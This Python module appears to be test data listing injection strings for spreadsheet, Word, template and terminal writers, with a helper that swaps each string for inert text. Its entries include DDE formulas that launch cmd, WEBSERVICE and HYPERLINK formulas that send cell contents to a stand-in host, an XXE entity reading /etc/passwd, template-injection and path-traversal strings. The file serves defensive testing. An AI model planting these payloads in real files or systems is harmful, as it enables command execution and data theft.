"""Texts that Excel, Word, a terminal or a template engine would obey if a writer let it; none of them is more than a text here.

Sources: OWASP "CSV Injection" and CWE-1236 for what begins a formula, ECMA-376 part 1 for 22.9.2.19 (escapes), 18.3.1.47 (links),
18.3.1.39 (header codes) and 17.16 (fields), the documentation of docxtpl for its tags, of Rich for its markup, ECMA-48 for terminals.
"""

LONGEST = 32_767  # characters of a cell (Excel specifications and limits)

PLAIN = {  # without control characters: every writer takes them to the letter
    "sum": "=1+1",
    "hyperlink": '=HYPERLINK("http://192.0.2.1/?"&A1,"点这里")',
    "dde": "=cmd|'/c calc'!A1",
    "dde by name": 'DDE("cmd","/c calc","x")',
    "dde field": "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"",
    "at": "@SUM(1+1)*cmd|'/c calc'!A1",
    "plus": "+1+1",
    "minus": "-1+1",
    "minus call": "-2+3+cmd|'/c calc'!A1",
    "full width": "＝1+1",
    "array": "{=1}",
    "array of calls": '{=WEBSERVICE("http://192.0.2.1")}',
    "webservice": '=WEBSERVICE("http://192.0.2.1/"&C5)',
    "importxml": '=IMPORTXML("http://192.0.2.1/","//a")',
    "error": "#REF!",
    "http": "http://192.0.2.1/x",
    "https": "https://192.0.2.1/x",
    "ftp": "ftp://192.0.2.1/x",
    "mail": "mailto:zhangsan@example.com",
    "file": "file:///etc/passwd",
    "share": "\\\\server\\share\\x.xlsx",
    "internal": "internal:政策参数!A1",
    "external": "external:\\\\server\\share\\x.xlsx#Sheet1!A1",
    "sheet link": "#'政策参数'!A1",
    "quotes": "\"'\"'`“”’",
    "sheet name": "'!A1&'政策参数'!A1",
    "markup": "<b>张三</b>&amp;&lt;",
    "cell markup": "</t></is></c><c r=\"A1\"><f>1+1</f></c>",
    "rich run": "<r><t>张三</t></r>",
    "other strings": "<r><t>张三</t></r></si><si><t>李四</t></si><si><r><t>王五</t></r>",
    "rich run with an end": "<r></si></r>",
    "cdata": "]]><![CDATA[x",
    "entity": "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "escape": "_x003D_1+1",
    "escaped escape": "_x005F_x000D_",
    "direction": "张\u202e三gpj.exe",
    "joiner": "张\u200b三\ufeff",
    "template": "{{ 7*7 }}{{ self.__init__.__globals__ }}",
    "template tag": "{% for x in range(9) %}x{% endfor %}",
    "row tag": "{%tr for x in range(9) %}x{%tr endfor %}",
    "hidden template": "{_{ 7*7 }_}{_% x %_}",
    "comment tag": "{# x #}",
    "rich": "[red]张三[/red][link=http://192.0.2.1]点[/link]",
    "rich end": "[/]",
    "emoji": ":warning:",
    "header": "&P&N&D&G&\"宋体\"&K00FF00",
    "field": "HYPERLINK \"http://192.0.2.1\" \\o",
    "paragraph": "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
    "percent": "%(x)s%s%n%1$s",
    "format": "{0}{x.__class__}",
    "path": "../../etc/passwd",
    "device": "CON.xlsx:stream",
    "long": "长" * LONGEST,
}
LINES = {"line": "张三\n=1+1", "lines": "\n\n=1+1", "tab": "\t=1+1", "carriage": "\r=1+1", "both": "张三\r\n=1+1"}
CONTROL = {"nul": "张\x00三", "vertical": "张\x0b三", "bell": "张\a三", "colour": "\x1b[31m张三\x1b[0m", "title": "\x1b]0;x\x07",
           "link": "\x1b]8;;http://192.0.2.1\x1b\\点\x1b]8;;\x1b\\", "erase": "\x1b[2J\x1b[1;1H", "one byte": "\x9b31m张三"}
WRITTEN = {**PLAIN, **LINES, **CONTROL}  # what a cell of a received workbook can hold
IMPOSSIBLE = {"longer": "长" * (LONGEST + 1), "longer by a pair": "长" * (LONGEST - 1) + "𠮷", "half a character": "张\ud800三"}


def harmless(texts):
    """Return as many texts that nobody could obey, one for each."""
    return {name: f"测试{number:03d}" for number, name in enumerate(texts)}
